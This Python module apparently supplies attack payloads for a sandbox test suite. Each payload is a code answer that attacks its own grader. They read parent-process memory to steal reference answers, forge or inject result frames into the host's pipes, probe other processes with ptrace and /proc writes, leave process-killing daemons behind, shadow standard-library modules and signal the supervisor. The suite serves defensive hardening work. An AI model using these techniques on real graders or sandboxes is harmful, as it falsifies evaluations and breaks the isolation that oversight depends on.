"""Payloads of the trust-boundary suite (tests/sandbox/test_trust_boundary.py): each is an answer that attacks
its grader, falling back to an honest wrong algorithm when the attack finds nothing.

Example:
    >>> task = new_task(2)
    >>> task.tests, task.mark in task.reference
    (('f(1)', 'f(2)'), True)
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass

N_TESTS = 3

# --- the payloads ------------------------------------------------------------------------------------
#
# STEAL finds the reference's answers without computing them: result lines of an earlier reply (a block from
# '{"load": "ok"}' to '{"done": true}' with one line per test) or the source of an earlier request that defines
# the same function (executed to get its values). Where it looks is the method: the stack of its own process
# (frames up into the supervisor), the objects the garbage collector tracks, its own memory (/proc/self/mem), or
# the memory of its parent (/proc/PPID/mem). It knows only its own calls (from its own harness frame). Every step
# is guarded: when nothing is found the answer falls back to its honest, wrong algorithm.

STEAL = r"""
import gc, json, os, re, sys

_OWN = "tk-own-payload"
_MARK = "@@turnkit-batch@@"
_BLOCK = re.compile(
    rb'@@turnkit-batch@@\{"load": "ok"\}\n((?:@@turnkit-batch@@\{"ok": [^\n]*\n)+)@@turnkit-batch@@\{"done": true\}'
)


def _own_calls():
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "batch_main":
            return list(frame.f_locals.get("calls") or [])
        frame = frame.f_back
    return []


def _decode(v):
    if v[0] in ("list", "tuple"):
        items = [_decode(x) for x in v[1]]
        return items if v[0] == "list" else tuple(items)
    return {"str": str, "int": int, "float": float, "bool": bool, "none": lambda: None}[v[0]](*v[1:])


def _from_results(text, n):
    data = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else bytes(text)
    for m in _BLOCK.finditer(data):
        lines = m.group(1).decode("utf-8", "replace").splitlines()
        if len(lines) == n:
            try:
                return [_decode(json.loads(line.split("@@", 2)[2])["ok"]) for line in lines]
            except Exception:
                continue
    return None


def _from_code(text, calls):
    if isinstance(text, (bytes, bytearray)):
        try:
            text = bytes(text).decode()
        except UnicodeDecodeError:
            return None
    name = calls[0].split("(")[0]
    if _OWN in text or ("def " + name + "(") not in text or len(text) > 20000:
        return None
    try:
        ns = {"__name__": "stolen"}
        exec(compile(text, "<stolen>", "exec"), ns)
        return [eval(c, ns) for c in calls]
    except BaseException:
        return None


def _texts_in(obj, out, depth=0):
    if isinstance(obj, (str, bytes, bytearray)):
        out.append(obj)
    elif depth < 3 and isinstance(obj, (list, tuple)):
        for x in obj:
            _texts_in(x, out, depth + 1)
    elif depth < 3 and isinstance(obj, dict):
        for x in list(obj.values()):
            _texts_in(x, out, depth + 1)


def _texts_on_stack():
    out = []
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            _texts_in(value, out)
        frame = frame.f_back
    return out


def _texts_of_gc():
    out = []
    for obj in gc.get_objects():
        if type(obj) in (list, tuple, dict):
            out.extend(r for r in gc.get_referents(obj) if type(r) in (str, bytes, bytearray))
    return out


def _texts_in_memory(pid):
    out = []
    with open("/proc/%s/maps" % pid) as f:
        regions = [line.split() for line in f.read().splitlines()]
    with open("/proc/%s/mem" % pid, "rb", buffering=0) as mem:
        for fields in regions:
            if not fields[1].startswith("rw"):
                continue
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            pos = lo
            while pos < hi:
                size = min(1 << 22, hi - pos)
                try:
                    mem.seek(pos)
                    chunk = mem.read(size)
                except (OSError, ValueError, OverflowError):
                    break
                if _MARK.encode() in chunk:
                    out.append(chunk)
                if pos + size >= hi:
                    break
                pos += size - 65536
    return out


def _steal(method):
    calls = _own_calls()
    if not calls:
        return None
    try:
        if method == "stack":
            texts = _texts_on_stack()
        elif method == "gc":
            texts = _texts_of_gc()
        elif method == "mem":
            texts = _texts_in_memory("self")
        elif method == "parent-mem":
            texts = _texts_in_memory(os.getppid())
        else:
            texts = _texts_on_stack() + _texts_of_gc()
    except Exception:
        return None
    for text in texts:
        if (_MARK if isinstance(text, str) else _MARK.encode()) in text:
            found = _from_results(text, len(calls))
            if found is not None:
                return found
    if method in ("stack", "gc", "any"):
        for text in texts:
            found = _from_code(text, calls)
            if found is not None:
                return found
    return None
"""

RETURN_STOLEN = r"""
_ANSWERS = _steal("__METHOD__")
_NEXT = [0]


def f(x):
    i = _NEXT[0]
    _NEXT[0] += 1
    if _ANSWERS is not None and i < len(_ANSWERS):
        return _ANSWERS[i]
    return "nope"
"""

# FORGE: the answer's own function stays wrong; the stolen values (or, where nothing was stolen, made-up ones: the
# code cannot know the expected values) go out by another way: lookalike result lines written straight to every
# writable pipe or socket the process holds (then it exits before the harness writes), a patched json.dumps, or
# the harness's encode_value replaced through its frame's globals.

FORGE = r"""
_ANSWERS = _steal("any")
_FORGED = _ANSWERS if _ANSWERS is not None else ["forged-%d" % i for i in range(len(_own_calls()))]


def _enc(v):
    if isinstance(v, str):
        return ["str", v]
    if isinstance(v, bool):
        return ["bool", v]
    if isinstance(v, int):
        return ["int", str(v)]
    if isinstance(v, float):
        return ["float", repr(v)]
    return ["none"]


def f(x):
    return "nope"


if "__FORGE__" == "fd":
    _lines = [{"load": "ok"}] + [{"ok": _enc(v)} for v in _FORGED] + [{"done": True}]
    _data = "".join(_MARK + json.dumps(x) + "\n" for x in _lines).encode()
    for _name in os.listdir("/proc/self/fd"):
        try:
            _fd = int(_name)
            _link = os.readlink("/proc/self/fd/%d" % _fd)
            with open("/proc/self/fdinfo/%d" % _fd) as _info:
                _flags = int(_info.read().split("flags:")[1].split()[0], 8)
            if _link.startswith(("pipe:", "socket:")) and _flags & 3 in (1, 2):
                os.write(_fd, _data)
        except (OSError, ValueError, IndexError):
            pass
    os._exit(0)
elif "__FORGE__" == "json":
    _it = iter(_FORGED)
    _dumps = json.dumps

    def _forged_dumps(obj, *args, **kwargs):
        if isinstance(obj, dict) and "ok" in obj:
            obj = {"ok": _enc(next(_it, "forged"))}
        return _dumps(obj, *args, **kwargs)

    json.dumps = _forged_dumps
elif "__FORGE__" == "globals":
    _frame = sys._getframe()
    while _frame is not None and _frame.f_code.co_name != "batch_main":
        _frame = _frame.f_back
    if _frame is not None:
        _it = iter(_FORGED)
        _frame.f_globals["encode_value"] = lambda value, *args, **kwargs: _enc(next(_it, "forged"))
"""

# PROBE: what a call can do to every other process it sees (its parent first): open /proc/PID/mem and read or
# write back 8 bytes (at id(sys) + 8, an address a forked relative has too), list /proc/PID/fd, open one of its
# descriptors for writing, PTRACE_SEIZE it (no stop; the tracer's exit detaches), process_vm_readv it.

PROBE = r"""
import ctypes, json, os, sys

libc = ctypes.CDLL(None, use_errno=True)
addr = id(sys) + 8
me = os.getpid()


def attempt(fn):
    try:
        fn()
        return "ok"
    except OSError as exc:
        return type(exc).__name__


def mem_read(pid):
    with open("/proc/%d/mem" % pid, "rb", buffering=0) as mem:
        mem.seek(addr)
        if len(mem.read(8)) != 8:
            raise OSError("short read")


def mem_write(pid):
    with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
        mem.seek(addr)
        data = mem.read(8)
        mem.seek(addr)
        if mem.write(data) != 8:
            raise OSError("short write")


def fd_write(pid):
    for fd in (1, 4, 0):
        try:
            os.close(os.open("/proc/%d/fd/%d" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK))
            return
        except FileNotFoundError:
            continue
    raise PermissionError("no descriptor opened")


def checked(ret):
    if ret == -1:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))


def getfd(pid):
    pidfd = os.pidfd_open(pid)
    try:
        fd = libc.syscall(438, pidfd, 4, 0)  # pidfd_getfd(pidfd, 4, 0): a copy of the parent's descriptor 4
        checked(fd)
        os.close(fd)
    finally:
        os.close(pidfd)


def ptrace_seize(pid):
    checked(libc.ptrace(0x4206, pid, None, None))


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def vm_read(pid):
    buf = ctypes.create_string_buffer(8)
    local, remote = IoVec(ctypes.addressof(buf), 8), IoVec(addr, 8)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    checked(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))


pids = [os.getppid()] + sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (me, os.getppid()))
report = {}
for pid in pids:
    report[pid] = {
        "mem_read": attempt(lambda: mem_read(pid)),
        "mem_write": attempt(lambda: mem_write(pid)),
        "fd_list": attempt(lambda: os.listdir("/proc/%d/fd" % pid)),
        "fd_write": attempt(lambda: fd_write(pid)),
        "fd_getfd": attempt(lambda: getfd(pid)),
        "ptrace": attempt(lambda: ptrace_seize(pid)),
        "vm_read": attempt(lambda: vm_read(pid)),
    }
print(json.dumps({"ppid": os.getppid(), "report": report}))
"""

# DESYNC: a reply frame written into the host's pipe (fd 1 or 4 of any other process: the supervisor's copy of
# its stdout, or bubblewrap's), so that the host takes it for this call's reply and every later call gets the
# reply before its own.

DESYNC = r"""
import ctypes, json, os, struct

libc = ctypes.CDLL(None, use_errno=True)

out = b"FORGED-__MARK__\n"
head = {"exit_code": 0, "timed_out": False, "truncated": False, "oom_killed": False, "duration_s": 0.01,
        "cpu_s": 0.0, "max_rss_kb": 0.0, "host_gone": False, "blobs": [len(out), 0]}
raw = json.dumps(head, separators=(",", ":")).encode()
frame = b"TKF1" + struct.pack(">I", len(raw)) + raw + out
me, seen = os.getpid(), set()
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me):
    for fd in (1, 4):
        path = "/proc/%d/fd/%d" % (pid, fd)
        try:
            link = os.readlink(path)
            if not link.startswith("pipe:") or link in seen:
                continue
            w = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except PermissionError:  # a pipe the host made: take a copy of the process's own descriptor instead
            try:
                pidfd = os.pidfd_open(pid)
                w = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
                os.close(pidfd)
            except OSError:
                continue
            if w < 0:
                continue
        except OSError:
            continue
        seen.add(link)
        os.write(w, frame)
        os.close(w)
print("ATTACKER-__MARK__")
"""

# DAEMON: leaves a process behind (double fork and own session, or a raw clone(CLONE_PARENT) that makes it its
# parent's child, not the call's) that for 8 s SIGKILLs every process that appears after it started: the next
# answer's. Each of the answer's own calls starts a victim and reports whether the daemon killed it (proof that
# the daemon runs and acts).

DAEMON = r"""
import os, signal, time


def _start_daemon():
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
            os.close(r)
            me = os.getpid()
            known = {int(p) for p in os.listdir("/proc") if p.isdigit()}
            os.write(w, b"up")
            os.close(w)
            end = time.monotonic() + 8.0
            while time.monotonic() < end:
                for p in os.listdir("/proc"):
                    if p.isdigit() and int(p) not in known and int(p) != me:
                        try:
                            os.kill(int(p), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.002)
        finally:
            os._exit(0)
    os.close(w)
    os.read(r, 2)
    os.close(r)
    os.waitpid(pid, 0)


_start_daemon()


def f(x):
    victim = os.fork()
    if victim == 0:
        time.sleep(3.0)
        os._exit(0)
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline:
        done, status = os.waitpid(victim, os.WNOHANG)
        if done:
            return "victim-killed" if os.WIFSIGNALED(status) and os.WTERMSIG(status) == 9 else "victim-exited"
        time.sleep(0.01)
    os.kill(victim, signal.SIGKILL)
    os.waitpid(victim, 0)
    return "victim-alive"
"""

# POISON: files persist in /work across calls, and /work is the first entry of sys.path: a module there shadows
# the standard library's for every later answer that imports it (heapq is not preloaded by the supervisor). The
# hardened grader empties the work directory before each answer loads (run_batch(fresh_workdir=True)); the control
# grades the old way, in whatever the work directory holds.

POISON = r"""
with open("/work/heapq.py", "w") as fh:
    fh.write("def nlargest(n, iterable, key=None):\n    return ['poisoned']\n")


def f(x):
    return "nope"
"""

# The same, made hard to clean up: the module as a package in a directory locked against its owner's writes,
# the whole work directory locked, or buried under a tree deeper than Python's recursion limit and than a path
# can name.
_PLANT, _ANSWER = POISON.split("\n\n\n", 1)
POISONS = {
    "module": POISON,
    "locked-package": r"""
import os
os.makedirs("/work/heapq", exist_ok=True)
with open("/work/heapq/__init__.py", "w") as fh:
    fh.write("def nlargest(n, iterable, key=None):\n    return ['poisoned']\n")
os.chmod("/work/heapq", 0o500)
"""
    + "\n\n"
    + _ANSWER,
    "locked-workdir": _PLANT + '\n__import__("os").chmod("/work", 0)\n\n\n' + _ANSWER,
    "deep-tree": _PLANT
    + '\nos = __import__("os")\nfor _ in range(3000):\n    os.mkdir("d")\n    os.chdir("d")\n\n\n'
    + _ANSWER,
}

# SIGNALS: SIGKILL or SIGSTOP to the parent (the supervisor, or the zygote) or to every process the code sees.

SIGNALS = r"""
import os, signal

_me = os.getpid()
if "__TARGET__" == "parent":
    _targets = [os.getppid()]
else:
    _targets = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != _me]
for _pid in _targets:
    try:
        os.kill(_pid, signal.__SIGNAL__)
    except OSError:
        pass


def f(x):
    return "nope"
"""


@dataclass(frozen=True)
class Task:
    """One hidden-test task with a marker unique to the test: answers from elsewhere cannot match."""

    mark: str
    reference: str
    honest: str  # a correct answer, written differently
    wrong: str  # an honest wrong answer: what every attack falls back to
    tests: tuple[str, ...]


def new_task(n: int = N_TESTS) -> Task:
    mark = "tk" + uuid.uuid4().hex[:12]
    return Task(
        mark=mark,
        reference=f"def f(x):\n    return '{mark}-' + str(x * 7)\n",
        honest=f"def f(x):\n    return '{mark}-%d' % (x + 6 * x)\n",
        wrong="def f(x):\n    return 'nope'\n",
        tests=tuple(f"f({i})" for i in range(1, n + 1)),
    )


def daemon_payload(how: str) -> str:
    if how == "fork":
        return DAEMON
    fork = """    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
"""
    clone = """    import ctypes

    pid = ctypes.CDLL(None, use_errno=True).syscall(56, 0x8000 | 17, 0, 0, 0, 0)  # clone(CLONE_PARENT | SIGCHLD)
    if pid == 0:
        try:
            os.setsid()
"""
    assert fork in DAEMON
    return DAEMON.replace(fork, clone).replace("    os.waitpid(pid, 0)\n", "")  # its parent reaps it


def steal_payload(method: str) -> str:
    return STEAL + RETURN_STOLEN.replace("__METHOD__", method)


def forge_payload(how: str) -> str:
    return STEAL + FORGE.replace("__FORGE__", how)
